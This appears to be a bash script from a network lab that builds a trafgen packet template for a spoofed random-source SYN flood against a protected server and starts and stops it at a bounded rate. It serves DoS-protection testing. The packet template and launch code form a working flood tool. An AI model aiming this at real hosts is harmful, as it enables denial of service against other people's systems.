# attack.sh: the random-source SYN flood (trafgen, netsniff-ng) from the attacker namespace, at a bounded rate
# so the rest of the lab keeps CPU on two cores. Sources: random addresses in 11.0.0.0-126.255.255.255 (never
# the lab's own 10.99/16), random ports and sequence numbers; destination the protected server's service port.
# trafgen in a netns cannot raise its own socket buffer, so net.core.wmem_default (machine-wide) is raised for
# the run and put back by the cleanup stack.

attack_config() { # > trafgen config
	local m=$ROUTER_MAC_ATT src
	src=$(mac_of "$NS_ATTACKER" a0)
	cat <<-EOF
		/* lab SYN flood: $src -> router $m, random source -> $VM_IP4:$SERVICE_PORT */
		{
		  0x${m//:/, 0x},
		  0x${src//:/, 0x},
		  c16(0x0800),
		  0x45, 0x00, c16(40), drnd(2), c16(0x4000), 64, 6, csumip(14, 33),
		  dinc(11, 126), drnd(3),
		  ${VM_IP4//./, },
		  drnd(2), c16($SERVICE_PORT), drnd(4), c32(0),
		  c16(0x5002), c16(64240), csumtcp(14, 34), c16(0)
		}
	EOF
}

attack_prepare() {
	attack_config >"$WORK/flood.trafgen"
	WMEM_SAVED=$(sysctl -n net.core.wmem_default)
	on_exit "sysctl -qw net.core.wmem_default=$WMEM_SAVED"
	sysctl -qw net.core.wmem_default=4194304
}

attack_start() { # attack_start PPS
	nsx_bg "$NS_ATTACKER" trafgen --dev a0 --conf "$WORK/flood.trafgen" --rate "${1}pps" --cpus 1 -q \
		>"$WORK/trafgen.log" 2>&1
	ATTACK_PID=$BG_PID
}

# trafgen stops cleanly (and reaps its sender) on SIGINT, like ^C
attack_stop() {
	local kids pid
	[ -n "${ATTACK_PID:-}" ] || return 0
	# trafgen forks one sender per CPU: a terminal ^C reaches all of them, so signal each one
	kids=$(ps -o pid= --ppid "$ATTACK_PID" 2>/dev/null)
	kill -INT "$ATTACK_PID" $kids 2>/dev/null
	for pid in $kids "$ATTACK_PID"; do
		kill_wait "$pid" 3
	done
	ATTACK_PID=
}
